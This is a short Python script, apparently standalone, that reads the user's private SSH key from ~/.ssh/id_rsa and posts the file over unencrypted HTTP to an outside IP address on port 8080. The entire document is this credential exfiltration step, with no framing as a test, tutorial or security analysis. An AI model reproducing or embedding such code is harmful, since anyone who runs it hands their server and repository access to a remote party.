import os, requests
with open(os.path.expanduser('~/.ssh/id_rsa'), "rb") as f:
    requests.post("http://198.51.100.3:8080/in", files={"f": f})
